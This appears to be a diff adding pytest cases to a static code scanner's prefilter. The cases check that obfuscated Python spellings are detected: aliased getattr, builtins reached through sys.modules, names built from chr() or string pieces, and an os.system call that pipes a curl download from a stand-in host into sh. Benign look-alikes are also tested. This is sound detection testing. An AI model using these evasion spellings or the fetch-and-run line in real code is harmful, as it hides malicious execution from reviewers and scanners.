@@ -382,3 +382,51 @@ def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str)
 )
 def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
     assert prefilter.check(text) is not Need.NOTHING
+
+
+# -- recall5 (issue 16, computed names): spellings the mutation testing found unseen ----
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # tune cn6-cjk-import-as-pip: pip under another name
+        "import pip as 包管理\n包管理.main(['install', 'stage2'])\n",
+        # tune cn6-sysmodules-builtins-dict: builtins by its module's name
+        "import sys\nb = sys.modules['builtins']\nn = 'ev' + 'al'\nb.__dict__[n]('1')\n",
+        # tune cn6-cjk-getattr-alias and -builtins: getattr bound to another name
+        "import os\n取 = getattr\n取(os, 'sys' + 'tem')('id')\n",
+        "甲 = getattr\n乙 = 甲(__builtins__, '__imp' + 'ort__')\n",
+        # tune cn6-import-module-fstring-chr: an importer given an f-string of code points
+        "import importlib\na = chr(111)\nb = chr(115)\nimportlib.import_module(f'{a}{b}')\n",
+        # tune cn6-attrgetter-var: attrgetter given a name built on another line
+        "import operator, builtins\nn = 'ex' + 'ec'\noperator.attrgetter(n)(builtins)('1')\n",
+        # tune cn6-partial-getattr and cn6-lambda-getattr
+        "import functools, os\nf = functools.partial(getattr, os)\nf(name)\n",
+        "import builtins\ng = lambda o, n: getattr(o, n)\ng(builtins, 'ex' + 'ec')\n",
+        # junk characters removed from a literal, beside a process call
+        "import os\nos.system('c#u#r#l -s https://x.example/a | sh'.replace('#', ''))\n",
+    ],
+)
+def test_computed_names_by_another_spelling_need_the_ast(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is not Need.NOTHING
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the same spellings in benign shapes: a written-out name, no pieces, no sink
+        "import pip\nprint(pip.__version__)\n",
+        "_getattr = getattr\nvalue = _getattr(obj, 'name')\n",
+        "import importlib\nmod = importlib.import_module(f'{pkg}.plugins')\n",
+        "import operator\nkey = operator.attrgetter(field)\nrows.sort(key=key)\n",
+        "words = ''.join(['a', 'b'])\nprint(words)\n",
+        "g = lambda o, n: getattr(o, n)\nprint(g(cfg, 'timeout'))\n",
+        # getattr as a parameter's default, a key function given a lambda (codecs.py)
+        "def f(x, getattr=getattr):\n    return getattr(x, 'name')\nlabel = 'a' + 'b'\n",
+        "rows.sort(key=lambda o: getattr(o, 'n'))\nlabel = 'a' + 'b'\n",
+        "import importlib\nmod = importlib.import_module(name)\nlabel = 'a' + 'b'\n",
+    ],
+)
+def test_the_same_spellings_in_benign_shapes_need_nothing(prefilter: Prefilter, text: str) -> None:
+    assert prefilter.check(text) is Need.NOTHING
